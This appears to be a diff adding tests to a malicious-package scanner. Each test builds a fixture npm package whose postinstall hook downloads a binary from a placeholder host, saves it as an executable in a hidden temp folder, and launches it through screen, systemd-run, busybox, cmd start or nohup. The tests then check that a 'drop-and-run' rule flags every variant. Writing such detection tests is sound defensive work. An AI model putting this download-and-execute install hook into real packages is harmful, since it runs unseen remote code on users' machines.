@@ -745,3 +745,36 @@ describe('round 76: packages for AI agents', () => {
     ).toBeGreaterThan(0);
   });
 });
+
+describe('launchers that start a downloaded program', () => {
+  const dropper = (start: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'warm-agent',
+        version: '1.0.0',
+        scripts: { postinstall: 'node i.js' },
+      }),
+      'i.js': [
+        "const fs = require('fs');",
+        "const os = require('os');",
+        "const path = require('path');",
+        "const { spawn, exec } = require('child_process');",
+        '(async () => {',
+        "  const bin = path.join(os.tmpdir(), '.warm', 'agent');",
+        "  const res = await fetch('https://dl.warm-agent.example/agent-' + process.platform);",
+        '  fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });',
+        `  ${start}`,
+        '})();',
+      ].join('\n'),
+    });
+
+  it.each([
+    ["spawn('screen', ['-dmS', 'warm', bin])"],
+    ["spawn('systemd-run', ['--user', '--unit', 'warm', bin])"],
+    ["spawn('busybox', ['nohup', bin])"],
+    ['exec(`cmd /c start "" ${bin}`)'],
+    ['exec(`nice -n 19 nohup ${bin} --serve >/dev/null 2>&1 &`)'],
+  ])('%s: a download run', (start) => {
+    expect(ruleOf(dropper(start), 'js.drop-and-run')).toBeDefined();
+  });
+});
